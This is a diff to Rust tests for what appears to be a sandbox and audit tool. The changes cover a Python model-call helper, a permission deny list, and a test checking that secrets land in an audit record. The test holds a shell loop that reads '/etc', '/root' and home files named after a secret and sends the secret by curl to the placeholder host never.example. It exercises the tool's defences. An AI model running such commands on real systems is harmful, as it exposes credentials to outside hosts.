@@ -9,10 +9,10 @@ use crate::world::{Ran, SECRET, World, finish};
 const PROMPT: &str = "the-patient-is-called-Ada";
 const ANSWER: &str = "take-two-of-them-a-day";
 
-/// `say.py`: a model call with a prompt; prints the answer's text.
+/// A model call with what is in a file, so that it is in no argument; prints the answer.
 const SAY: &str = "\
-import json, sys, urllib.request
-body = json.dumps({'model': 'm', 'max_tokens': 8, 'messages': [{'role': 'user', 'content': sys.argv[1]}]})
+import json, urllib.request
+body = json.dumps({'model': 'm', 'max_tokens': 8, 'messages': [{'role': 'user', 'content': open('prompt').read()}]})
 request = urllib.request.Request('http://inference.local/v1/messages', body.encode(), {'content-type': 'application/json'})
 print(urllib.request.urlopen(request, timeout=30).read().decode())
 ";
@@ -43,13 +43,14 @@ audit: {{content: true}}
     )) else {
         return;
     };
-    let refused = world.inside_python_with(SAY, &[PROMPT]);
+    world.write("work/prompt", PROMPT);
+    let refused = world.inside_python(SAY);
     assert_eq!(refused.code, Some(125), "{refused}");
     assert!(refused.err.contains("palisade audit recording-key"), "{refused}");
     let made = audit(&world, &["recording-key"]);
     assert_eq!(made.code, Some(0), "{made}");
 
-    let ran = world.inside_python_with(SAY, &[PROMPT]);
+    let ran = world.inside_python(SAY);
     assert!(ran.good().contains(ANSWER), "{ran}");
     assert!(server.requests()[0].contains(PROMPT));
     assert!(!is_kept(&world, PROMPT) && !is_kept(&world, ANSWER));
@@ -97,7 +98,7 @@ fn puts_secrets_into_the_record() {
         "credentials:
   key: {{from: {{env: {}}}, header: \"x-api-key: {{secret}}\", expose: MODEL_KEY}}
 network: {{rules: [{{name: never, hosts: [never.test], credential: key}}]}}
-permissions: {{mode: bypassPermissions, deny: [\"Bash(unshare *)\"]}}
+permissions: {{mode: bypassPermissions, deny: [\"Bash(no-such-tool *)\"]}}
 ",
         SECRET.0
     )) else {
@@ -109,7 +110,6 @@ permissions: {{mode: bypassPermissions, deny: [\"Bash(unshare *)\"]}}
            cat /etc/$s /root/$s ~/$s 2>/dev/null
            getent hosts $s.example.com
            curl -s --max-time 5 -H \"x: $s\" http://never.example/$s?key=$s
-           unshare -r echo $s
          done; true"
     );
     let ran = world.inside_sh(&script);
